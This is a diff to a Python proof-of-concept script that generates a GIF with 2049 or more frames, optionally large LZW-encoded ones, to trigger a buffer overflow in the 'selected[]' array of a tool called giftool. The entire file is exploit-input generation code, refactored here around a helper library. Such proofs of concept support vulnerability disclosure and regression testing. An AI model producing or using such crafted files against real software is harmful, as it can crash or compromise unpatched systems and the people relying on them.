@@ -1,60 +1,70 @@
 #!/usr/bin/env python3
+import argparse
+import random
 from pathlib import Path
 import sys
 
+sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
+from poclib.gif import BW_COLORMAP, MINIMAL_IMAGE_DATA, GifStreamWriter, frame, header, lzw_encode
+
 def make_multiframe_gif(path: str, frames: int) -> None:
     if frames <= 0:
         raise ValueError("frames must be > 0")
 
-    out = bytearray()
-
-    # Header
-    out += b"GIF89a"
-
-    # Logical Screen Descriptor: width=1, height=1
-    out += (1).to_bytes(2, "little")
-    out += (1).to_bytes(2, "little")
-
-    # Packed:
-    # bit7   : global color table flag = 1
-    # bit6-4 : color resolution = 0
-    # bit3   : sort flag = 0
-    # bit2-0 : GCT size code = 0 -> 2 entries
-    out += bytes([0x80])
+    # 1x1 logical screen, 2-entry global colour table (black, white)
+    head = header(1, 1, BW_COLORMAP)
 
-    # Background color index, pixel aspect ratio
-    out += b"\x00\x00"
+    # 每一帧都放一个最小的 1x1 图像: encoded once, written `frames` times
+    one = frame(MINIMAL_IMAGE_DATA, 0, 0, 1, 1)
 
-    # Global Color Table: 2 colors
-    # index 0 = black, index 1 = white
-    out += b"\x00\x00\x00\xff\xff\xff"
+    with GifStreamWriter(path, head) as w:
+        w.write_repeated(one, frames)
 
-    # 每一帧都放一个最小的 1x1 图像
-    for _ in range(frames):
-        # Image Descriptor
-        out += b"\x2c"                  # image separator
-        out += b"\x00\x00"              # left
-        out += b"\x00\x00"              # top
-        out += b"\x01\x00"              # width = 1
-        out += b"\x01\x00"              # height = 1
-        out += b"\x00"                  # no local color table
+def grey_colormap(colors: int) -> bytes:
+    return b"".join(bytes([i * 255 // (colors - 1)] * 3) for i in range(colors))
 
-        # Image Data
-        # LZW minimum code size = 2
-        # one data sub-block of size 2: 4c 01
-        # then block terminator 00
-        out += b"\x02\x02\x4c\x01\x00"
+def frame_indices(width: int, height: int, colors: int, pattern: str, seed: int = 0) -> bytes:
+    if pattern == "flat":
+        return bytes(width * height)
+    if pattern == "noise":
+        mask = bytes(range(colors)) * (256 // colors)
+        return random.Random(seed).randbytes(width * height).translate(mask)
+    # diagonal gradient: each row is the previous one shifted by a pixel
+    ramp = bytes(x * colors // width for x in range(width)) * 2
+    return b"".join(ramp[y % width:y % width + width] for y in range(height))
 
-    # Trailer
-    out += b"\x3b"
+def make_large_frame_gif(path: str, frames: int, width: int, height: int, colors: int = 256,
+                         pattern: str = "gradient") -> int:
+    """`frames` copies of one width x height frame; the image data is
+    LZW-encoded once. Returns the size of the encoded image data."""
+    if frames <= 0:
+        raise ValueError("frames must be > 0")
+    cmap = grey_colormap(colors)
+    data = lzw_encode(frame_indices(width, height, colors, pattern), max(2, (colors - 1).bit_length()))
+    with GifStreamWriter(path, header(width, height, cmap)) as w:
+        w.write_repeated(frame(data, 0, 0, width, height), frames)
+    return len(data)
 
-    Path(path).write_bytes(out)
+def _size(s: str):
+    w, _, h = s.lower().partition("x")
+    return int(w), int(h)
 
 def main() -> int:
-    out_path = sys.argv[1] if len(sys.argv) > 1 else "giftool_2049_frames.gif"
-    frames = int(sys.argv[2]) if len(sys.argv) > 2 else 2049
-    make_multiframe_gif(out_path, frames)
-    print(f"[+] wrote {out_path} with {frames} frames")
+    ap = argparse.ArgumentParser(description="giftool selected[] overflow PoC; --size writes large real frames.")
+    ap.add_argument("out", nargs="?", default="giftool_2049_frames.gif")
+    ap.add_argument("frames", nargs="?", type=int, default=2049)
+    ap.add_argument("--size", type=_size, default=None, metavar="WxH", help="LZW-encoded WxH frames instead of 1x1")
+    ap.add_argument("--colors", type=int, default=256, choices=[2 << i for i in range(8)])
+    ap.add_argument("--pattern", choices=("gradient", "noise", "flat"), default="gradient")
+    args = ap.parse_args()
+
+    if args.size is None:
+        make_multiframe_gif(args.out, args.frames)
+        print(f"[+] wrote {args.out} with {args.frames} frames")
+    else:
+        w, h = args.size
+        n = make_large_frame_gif(args.out, args.frames, w, h, args.colors, args.pattern)
+        print(f"[+] wrote {args.out} with {args.frames} {w}x{h} frames ({n} bytes of image data each)")
     return 0
 
 if __name__ == "__main__":